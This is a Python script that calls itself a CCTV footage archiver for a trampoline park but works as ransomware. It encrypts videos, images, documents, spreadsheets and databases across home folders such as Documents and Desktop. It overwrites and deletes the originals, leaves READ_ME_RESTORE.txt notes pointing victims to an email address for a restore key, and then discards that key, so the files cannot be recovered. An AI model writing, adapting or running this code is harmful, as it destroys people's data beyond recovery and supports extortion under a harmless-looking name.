#!/usr/bin/env python3
"""CCTV footage archiver.

"Secures" exported incident clips from the trampoline park NVR share by
sealing them in place.  Sealed clips get a new suffix and the plain copies
are removed so nobody walks off with raw footage on a USB stick.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

try:
    from cryptography.fernet import Fernet
except ImportError:  # pragma: no cover
    Fernet = None

LOG = logging.getLogger("archiver")

PROFILE = {
    "roots": ["~/cctv-exports", "/srv/nvr/exports", "~/Documents", "~/Desktop"],
    "suffixes": (".mp4", ".avi", ".mkv", ".jpg", ".png", ".pdf", ".csv",
                 ".docx", ".xlsx", ".db"),
    "sealed": ".sealed",
    "notice": "READ_ME_RESTORE.txt",
    "chunk": 1 << 20,
}

NOTICE_TEXT = (
    "Your footage and waiver files have been sealed.\n"
    "To obtain the restore key, contact restore@example.com with ID {sid}.\n"
)


class Sealer:
    def __init__(self):
        if Fernet is None:
            raise RuntimeError("cryptography package required")
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.count = 0

    @property
    def session_id(self):
        return self._key[:10].hex()

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + PROFILE["sealed"])
        out.write_bytes(self._f.encrypt(data))
        self._scrub(path, len(data))
        self.count += 1
        return out

    def _scrub(self, path, size):
        with open(path, "r+b") as fh:
            remaining = size
            while remaining > 0:
                n = min(remaining, PROFILE["chunk"])
                fh.write(os.urandom(n))
                remaining -= n
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def forget(self):
        self._key = b"\x00" * len(self._key)
        self._f = None


def candidates(roots):
    for r in roots:
        base = Path(os.path.expanduser(r))
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in PROFILE["suffixes"]:
                    yield p


def drop_notice(dirs, sid):
    for d in dirs:
        try:
            (d / PROFILE["notice"]).write_text(NOTICE_TEXT.format(sid=sid))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append",
                    help="extra root to secure (repeatable)")
    ap.add_argument("--log", default="./archiver.log")
    args = ap.parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(message)s")
    roots = PROFILE["roots"] + (args.root or [])
    try:
        sealer = Sealer()
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1
    sid = sealer.session_id
    touched = set()
    for path in candidates(roots):
        try:
            sealer.seal(path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            LOG.warning("skip %s: %s", path, exc)
    drop_notice(touched, sid)
    sealer.forget()
    LOG.info("sealed %d files in %d folders", sealer.count, len(touched))
    return 0


if __name__ == "__main__":
    sys.exit(main())
